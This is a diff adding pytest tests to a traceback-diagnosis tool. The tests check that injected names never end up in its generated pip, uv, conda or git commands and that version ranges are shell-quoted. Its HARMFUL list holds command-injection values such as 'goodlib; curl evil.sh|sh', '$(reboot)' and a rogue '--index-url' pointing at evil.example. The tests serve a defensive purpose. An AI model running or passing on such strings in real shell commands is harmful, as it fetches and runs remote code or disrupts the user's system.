@@ -181,3 +181,60 @@ def test_why_a_fix_fits_is_said_in_the_language_of_the_report() -> None:
     said = {one.id: (one.why, other.why) for one, other in zip(english.fixes, chinese.fixes, strict=True)}
     assert said["use-fp32"][0].startswith("if it fits: 14.0 GiB") and "14.0 GiB" in said["use-fp32"][1] and "放得下" in said["use-fp32"][1]
     assert all(not why or why != zh for why, zh in said.values())
+
+
+HARMFUL = [
+    "goodlib; curl evil.sh|sh", "$(reboot)", "`reboot`", "--index-url=https:evil.example", "-r x", "_r", "lib'", 'lib"', "lib<img src=x>",
+    "@everyone", "[click](javascript:alert(1))", "lib\\", "lib&", "~lib", "a*b", "x" * 200, "", "lib\u202e", "lïb", "lib\n",
+]  # fmt: skip
+
+
+def everything_said(text: str) -> list[str]:
+    """Return the titles, commands, codes and actions of all fixes that are shown."""
+    diagnosis = diagnose(text, environment="report")
+    return [
+        str(part) for one in diagnosis.diagnoses for fix in one.fixes for part in (fix.title, fix.reason, fix.command, fix.code, fix.action)
+    ]
+
+
+@pytest.mark.parametrize("name", [name for name in HARMFUL if name and not set(name) & {"\\", "\n"}])
+@pytest.mark.parametrize(
+    "path", ["/x/site-packages/{}/modeling.py", "C:/x/dist-packages/{}/a.py", "/comfy/custom_nodes/{}/nodes.py", "/web/extensions/{}/a.py"]
+)
+def test_a_path_of_a_report_brings_no_command(path: str, name: str) -> None:
+    """What has not the form of a name is in no command, title or advice."""
+    frame = f'  File "{path.format(name)}", line 7, in forward\n    x = self.proj(x)\n'
+    text = f'Traceback (most recent call last):\n  File "run.py", line 1, in <module>\n    go()\n{frame}{TORCH}{MISMATCH}'
+    found = everything_said(text)
+    assert found
+    if name == "_r" and "packages" not in path:
+        return
+    assert not [one for one in found if any(f"{before}{part}" in one for before in " /" for part in (name, name.replace("_", "-")))]
+    assert not any("pip install --upgrade" in one or "git -C" in one for one in found)
+
+
+def test_a_plug_in_is_named_by_its_folder() -> None:
+    """A folder with the form of a name is pulled as before."""
+    frame = '  File "/comfy/custom_nodes/ComfyUI-GGUF/nodes.py", line 7, in forward\n    x = self.proj(x)\n'
+    text = f'Traceback (most recent call last):\n  File "run.py", line 1, in <module>\n    go()\n{frame}{TORCH}{MISMATCH}'
+    assert "git -C custom_nodes/ComfyUI-GGUF pull" in everything_said(text)
+
+
+@pytest.mark.parametrize("name", HARMFUL)
+@pytest.mark.parametrize("verb", ["upgrade", "install", "uninstall", "downgrade"])
+def test_no_command_is_made_of_what_is_no_name(verb: str, name: str) -> None:
+    """Whatever brings the name or the version."""
+    for installer in ("pip", "uv", "conda"):
+        assert command({verb: name}, installer) is None
+        assert command({verb: name, "to": "1.0"}, installer) is None
+        if verb != "uninstall":
+            assert command({verb: "torch", "to": f"1.0{name} ;"}, installer) is None
+
+
+def test_what_a_shell_would_read_is_quoted() -> None:
+    """A range of versions is no redirection."""
+    assert command({"install": "flash-attn<2"}) == "pip install 'flash-attn<2'"
+    assert command({"install": "torchvision[x]", "to": "1.0"}, "uv") == "uv pip install 'torchvision[x]==1.0'"
+    assert command({"upgrade": "torch", "to": "2.1.0+cu118"}, "conda") == "conda install 'torch=2.1.0+cu118'"
+    assert command({"upgrade": "{library}"}, "conda") == "conda update {library}"
+    assert command({"uninstall": "apex"}, "uv") == "uv pip uninstall apex"
